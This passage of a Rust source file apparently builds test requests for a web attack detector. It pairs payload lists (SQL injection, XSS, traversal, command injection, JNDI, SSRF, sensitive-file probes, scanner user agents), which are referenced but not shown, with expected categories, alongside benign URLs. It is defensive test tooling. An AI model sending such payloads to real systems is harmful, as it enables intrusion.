    "https://en.wikipedia.org/wiki/O%27Reilly_Media", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://github.com/org/repo/pull/42#issuecomment-1", "https://www.example.com/cart;jsessionid=ABC",
    "https://forum.example.com/t/onclick-vs-addeventlistener/42",
    "https://www.example.com/search?q=x+%3C+5+and+y+%3E+3", "https://www.example.com/search?q=it%27s+fine",
    "http://www.semicomplete.com/misc/sample.log", "http://www.dual-boxing.com/wiki/index.php/New_multiboxer%27s_guide",
    "https://www.example.com/a?b=c&d=e&f=g", "https://www.example.com/#/app/dashboard",
    "https://accounts.google.com/", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=x",
    "https://www.example.com/checkout?step=2&coupon=SAVE10",
];

/// Percent-encode what cannot appear raw in a query value: space, `&`, `#`. Existing
/// `%XX` escapes are kept, so already-encoded payloads stay as they are.
pub fn encode_value(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            ' ' => out.push_str("%20"),
            '&' => out.push_str("%26"),
            '#' => out.push_str("%23"),
            '\t' => out.push_str("%09"),
            '\n' => out.push_str("%0A"),
            _ => out.push(c),
        }
    }
    out
}

const BASE_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

fn req(path: &str, query: Option<String>, ua: &str, referrer: Option<&str>) -> Request<'static> {
    Request {
        format: Format::Combined,
        method: Some(Cow::Borrowed("GET")),
        path: Some(Cow::Owned(path.to_string())),
        query: query.map(Cow::Owned),
        protocol: Some(Cow::Borrowed("HTTP/1.1")),
        status: Some(200),
        user_agent: Some(Cow::Owned(ua.to_string())),
        referrer: referrer.map(|r| Cow::Owned(r.to_string())),
        ..Request::default()
    }
}

/// Split `path?query`.
fn path_query(s: &str) -> (&str, Option<String>) {
    match s.split_once('?') {
        Some((p, q)) => (p, Some(q.to_string())),
        None => (s, None),
    }
}

/// Every attack payload as a request, with the category it should be caught in.
pub fn attacks() -> Vec<(Category, Request<'static>)> {
    let mut v = Vec::new();
    let q = |p: &str| Some(format!("id={}", encode_value(p)));
    for p in SQLI {
        v.push((Category::Sqli, req("/item", q(p), BASE_UA, None)));
    }
    for p in XSS {
        v.push((Category::Xss, req("/search", q(p), BASE_UA, None)));
    }
    for p in TRAVERSAL_PATHS {
        v.push((Category::Traversal, req(p, None, BASE_UA, None)));
    }
    for p in TRAVERSAL_VALUES {
        v.push((Category::Traversal, req("/download", q(p), BASE_UA, None)));
    }
    for p in CMDI {
        v.push((Category::CommandInjection, req("/ping", q(p), BASE_UA, None)));
    }
    for p in JNDI {
        v.push((Category::Jndi, req("/", None, p, None)));
    }
    for p in SSRF {
        v.push((Category::Ssrf, req("/fetch", Some(format!("url={}", encode_value(p))), BASE_UA, None)));
    }
    for p in SENSITIVE_PATHS {
        v.push((Category::SensitiveFile, req(p, None, BASE_UA, None)));
    }
    for p in PROBES {
        let (path, query) = path_query(p);
        v.push((Category::Probe, req(path, query, BASE_UA, None)));
    }
    for p in SCANNER_UAS {
        v.push((Category::ScannerAgent, req("/", None, p, None)));
    }
    v
}

/// Every benign value, path, user agent and referrer as a request (one varied field each).
pub fn benign() -> Vec<Request<'static>> {
    let mut v = Vec::new();
    for (i, s) in BENIGN_VALUES.iter().enumerate() {
        let key = ["q", "name", "comment", "filter"][i % 4];
        v.push(req("/search", Some(format!("{key}={}", encode_value(s))), BASE_UA, None));
    }
    for p in BENIGN_PATHS {
        let (path, query) = path_query(p);
        v.push(req(path, query, BASE_UA, None));
    }
    for ua in BENIGN_UAS {
        v.push(req("/index.html", None, ua, None));
    }
    for r in BENIGN_REFERRERS {
        v.push(req("/products/12345", None, BASE_UA, Some(r)));
    }
    v
}
